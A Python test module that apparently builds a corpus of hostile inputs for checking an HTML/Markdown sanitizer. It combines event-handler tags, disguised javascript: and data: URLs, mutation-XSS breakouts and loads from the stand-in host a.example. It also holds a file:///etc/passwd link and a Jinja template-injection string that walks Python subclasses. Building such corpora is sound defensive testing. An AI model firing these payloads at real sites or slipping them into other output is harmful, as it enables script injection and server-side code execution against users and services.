"""Texts that want to run something: twenty that a well-known sanitizer is tested with, and what our own grammar makes.

Lists of them that the public shares come without a licence, or with parts copied from places without one. So ours are
made: every element that loads or runs something, every way to write a handler, and every disguise of a scheme.
"""

import json
from itertools import product
from pathlib import Path

_OF_BLEACH = Path(__file__).with_name("hostile_of_bleach.json")
_RUN = "alert(1)"
_ELEMENTS = (
    *("a", "abbr", "audio", "body", "button", "details", "dialog", "div", "embed", "form", "frameset", "h2", "iframe"),
    *("image", "img", "input", "isindex", "keygen", "li", "link", "marquee", "math", "meta", "object", "p", "select"),
    *("strong", "style", "svg", "table", "template", "textarea", "title", "ul", "video", "x", "xss"),
)
_HANDLERS = (
    *("onload", "onerror", "onclick", "onfocus autofocus tabindex=1", "ontoggle open", "onmouseover", "onpointerenter"),
    *("onanimationstart", "onbegin", "onpageshow", "ONCLICK", "oNlOaD", "onbeforetoggle popover"),
)
#: How a handler is tied to its element.
_TIES = ("<{e} {h}={r}>", '<{e} {h}="{r}">x</{e}>', "<{e}/{h}='{r}'//", "<{e}\n{h}\t=\n{r} x=", '"><{e} {h}={r}>')
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript:%61lert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript:alert(1)//https://a.example",
    "javascript://a.example/%0aalert(1)",
    "https:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html;alert(1)",
    "blob:https://a.example/1",
    "file:///etc/passwd",
    "filesystem:https://a.example/1",
    "view-source:https://a.example",
    "intent://a.example#Intent;end",
    "ms-word:ofe|u|https://a.example",
    "feed:javascript:alert(1)",
    "jar:https://a.example!/",
    "//a.example/x.js",
    "\\\\a.example\\x",
    "/\\a.example",
    'https://a.example/"onmouseover=alert(1) x="',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/><script>alert(1)</script>",
)
_LINKS = (
    "[x]({a})",
    "[x](<{a}>)",
    '[x]({a} "t")',
    "[x]({a} 'onclick=alert(1)')",
    "<{a}>",
    "![x]({a})",
    "[![x]({a})]({a})",
    "[x][y]\n\n[y]: {a}",
    '<a href="{a}">x</a>',
    "<a href={a}>x</a>",
    '<iframe src="{a}">',
    '<form action="{a}"><button>x</button></form>',
    "<svg><a xlink:href='{a}'><text>x</text></a></svg>",
    '<meta http-equiv=refresh content="0;url={a}">',
    '<object data="{a}">',
    '<base href="{a}">',
)
#: What breaks out of one kind of text into another.
_BREAKS = (
    "<script>alert(1)</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<SCRIPT SRC=//a.example/x.js></SCRIPT>",
    "<<script>alert(1)//<</script>",
    "<!--><script>alert(1)</script>-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><script>alert(1)</script>",
    "<style>@import '//a.example/x.css';</style>",
    '<p style="background:url(//a.example/x)">x</p>',
    "<link rel=stylesheet href=//a.example/x.css>",
    "<a href='x' ping='//a.example/p'>x</a>",
    "<img srcset='//a.example/x 1x'>",
    "<div id=settings name=settings>x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "{{ settings.secrets }}",
    "{% for each in ().__class__.__base__.__subclasses__() %}{{ each }}{% endfor %}",
    "{office}<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)


def texts() -> list[str]:
    """All of them, each once."""
    handlers = (
        tie.format(e=element, h=handler, r=_RUN) for element, handler, tie in product(_ELEMENTS, _HANDLERS, _TIES)
    )
    links = (link.format(a=address) for link, address in product(_LINKS, _ADDRESSES))
    of_bleach = json.loads(_OF_BLEACH.read_text("utf-8"))["texts"]
    return list(dict.fromkeys([*of_bleach, *_BREAKS, *links, *handlers]))


def placed(text: str) -> list[str]:
    """As a whole text, in a paragraph, in a list, as the target of a link, in a title, and in a quotation."""
    one_line = " ".join(text.split("\n"))
    return [
        text,
        f"A word {text} and one more.",
        f"- one\n- {one_line}\n  - {one_line}",
        f"[words]({one_line})",
        f"# {one_line}\n\nA line.",
        f"> {one_line}",
    ]
